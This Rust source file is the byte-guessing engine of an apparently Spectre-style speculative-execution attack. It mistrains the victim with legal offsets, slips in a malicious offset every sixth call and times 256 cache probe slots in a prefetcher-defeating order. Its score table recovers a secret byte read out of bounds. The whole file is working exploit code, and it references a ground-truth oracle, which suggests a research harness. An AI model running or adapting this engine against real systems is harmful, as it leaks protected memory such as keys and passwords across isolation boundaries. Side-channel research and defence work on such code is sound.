// Byte-guessing engine
//
// One target offset at a time: clear the probe array from the cache, run a
// burst of victim calls where every sixth call carries the malicious offset,
// time all 256 probe slots, score the fast ones, and stop as soon as one
// candidate clearly dominates. Any single round is noisy; the score table
// accumulates across rounds until the leader is convincing.

use std::hint::black_box;
use std::ops::Index;

use crate::arch::Backend;
use crate::calibration::CacheThreshold;
use crate::config::GuessConfig;
use crate::probe::{ProbeArray, PROBE_SLOTS};
use crate::select::offset_for_call;
use crate::timing::measure_latency;
use crate::victim::Oracle;

/// Order in which probe slots are timed. Walking them 0, 1, 2, ... would let
/// the stride prefetcher pull the next slot in before it is measured.
#[inline(always)]
pub fn visit(i: usize) -> u8
{
    ((i * 167 + 13) & 255) as u8
}

/// Hit counts per candidate byte value.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ScoreTable([u32; PROBE_SLOTS]);

impl ScoreTable
{
    pub fn new() -> Self
    {
        ScoreTable([0; PROBE_SLOTS])
    }

    pub fn reset(&mut self)
    {
        self.0 = [0; PROBE_SLOTS];
    }

    #[inline(always)]
    pub fn hit(&mut self, candidate: u8)
    {
        self.0[candidate as usize] += 1;
    }

    pub fn as_slice(&self) -> &[u32]
    {
        &self.0
    }

    /// First and second place.
    ///
    /// Single pass, ties go right: a candidate equal to the current leader
    /// takes first place and pushes the old leader down to second. So two
    /// candidates tied at the top come out in reverse index order.
    pub fn rank(&self) -> Ranking
    {
        let mut first: Option<usize> = None;
        let mut second: Option<usize> = None;
        for (i, &score) in self.0.iter().enumerate() {
            if first.map_or(true, |j| score >= self.0[j]) {
                second = first;
                first = Some(i);
            } else if second.map_or(true, |k| score >= self.0[k]) {
                second = Some(i);
            }
        }
        // both are set once two candidates have been seen
        Ranking { first: first.unwrap_or(0) as u8, second: second.unwrap_or(0) as u8 }
    }
}

impl Default for ScoreTable
{
    fn default() -> Self
    {
        Self::new()
    }
}

impl From<[u32; PROBE_SLOTS]> for ScoreTable
{
    fn from(scores: [u32; PROBE_SLOTS]) -> Self
    {
        ScoreTable(scores)
    }
}

impl Index<u8> for ScoreTable
{
    type Output = u32;

    fn index(&self, candidate: u8) -> &u32
    {
        &self.0[candidate as usize]
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Ranking
{
    pub first: u8,
    pub second: u8,
}

impl Ranking
{
    /// The leader has at least twice the runner-up's hits, or exactly two
    /// hits against none.
    pub fn is_convincing(&self, scores: &ScoreTable) -> bool
    {
        let j = scores[self.first];
        let k = scores[self.second];
        j >= 2 * k || (j == 2 && k == 0)
    }
}

/// Best guess for one offset.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Guess
{
    pub value: u8,
    pub score: u32,
    /// Rounds run before the early exit, or `max_rounds`.
    pub rounds: usize,
}

/// Owns the probe array and the score table so nothing is allocated while
/// guessing, and carries the run's cache threshold.
pub struct Engine
{
    probe: ProbeArray,
    scores: ScoreTable,
    threshold: CacheThreshold,
}

impl Engine
{
    pub fn new(threshold: CacheThreshold) -> Self
    {
        Engine { probe: ProbeArray::new(), scores: ScoreTable::new(), threshold }
    }

    pub fn threshold(&self) -> CacheThreshold
    {
        self.threshold
    }

    /// Recalibrated threshold for the next repetition; the buffers are kept.
    pub fn set_threshold(&mut self, threshold: CacheThreshold)
    {
        self.threshold = threshold;
    }

    pub fn probe(&self) -> &ProbeArray
    {
        &self.probe
    }

    pub fn probe_mut(&mut self) -> &mut ProbeArray
    {
        &mut self.probe
    }

    /// Score table as left by the last `read_offset`.
    pub fn scores(&self) -> &ScoreTable
    {
        &self.scores
    }

    /// Guess the byte the victim reads at `offset`.
    ///
    /// Always returns a guess; whether it is right is only known to a caller
    /// holding the ground truth.
    #[inline(never)]
    pub fn read_offset<B: Backend, O: Oracle>(&mut self, backend: &B, oracle: &O, offset: usize, config: &GuessConfig) -> Guess
    {
        let probe = &self.probe;
        let scores = &mut self.scores;
        let threshold = self.threshold;
        let bound = oracle.bound().max(1);

        scores.reset();
        let mut ranking = Ranking { first: 0, second: 0 };
        let mut rounds = 0;

        for remaining in (1..=config.max_rounds).rev() {
            rounds += 1;

            probe.evict(backend);

            // legal offset for this round's training calls
            let training = remaining % bound;
            for i in (0..config.accesses_per_round).rev() {
                backend.fence_memory();
                oracle.access(backend, probe, offset_for_call(i, offset, training));
            }

            // nothing from the attack burst may still be in flight
            backend.fence_memory();

            // every training call warmed this slot, it proves nothing
            let trained = oracle.training_byte(training);
            for i in 0..PROBE_SLOTS {
                let candidate = visit(i);
                let latency = unsafe { measure_latency(backend, probe.slot(candidate)) };
                if threshold.is_hit(latency) && candidate != trained {
                    scores.hit(candidate);
                }
            }

            ranking = scores.rank();
            if ranking.is_convincing(scores) {
                break;
            }
        }

        black_box(&*scores);
        Guess { value: ranking.first, score: scores[ranking.first], rounds }
    }
}
